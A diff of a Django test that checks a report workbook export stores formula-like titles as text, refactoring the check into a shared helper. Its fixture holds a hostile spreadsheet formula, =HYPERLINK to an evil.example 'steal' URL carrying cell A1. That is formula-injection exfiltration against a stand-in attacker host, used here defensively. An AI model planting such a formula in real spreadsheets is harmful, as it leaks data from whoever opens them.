@@ -468,22 +468,10 @@ def test_text_that_looks_like_a_formula_is_text_in_the_report_workbook(
     reference_data, staff, django_capture_on_commit_callbacks
 ):
     """A title typed as =HYPERLINK(...) must reach the Budget Bureau's Excel as text, never as a live formula."""
-    from openpyxl import load_workbook as open_workbook
-
-    from codi_plans.spreadsheets import looks_like_formula
+    from codi_plans.tests.test_exports import assert_no_formula
     from reports.tests.factories import funded_request
 
     hostile = '=HYPERLINK("http://evil.example/steal?x="&A1,"คลิก")'
     funded_request(title=hostile, indicators=[("@SUM(1+1)", "+ครัวเรือน", "200", "180")])
     report, _ = ask(django_capture_on_commit_callbacks, by=staff, kind=ReportKind.PLAN)
-    book = open_workbook(io.BytesIO(read(report.xlsx_file)))
-    texts = []
-    for sheet in book.worksheets:
-        for row in sheet.iter_rows():
-            for cell in row:
-                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
-                if isinstance(cell.value, str):
-                    texts.append(cell.value)
-                    if looks_like_formula(cell.value):
-                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
-    assert hostile in texts
+    assert hostile in assert_no_formula(read(report.xlsx_file))
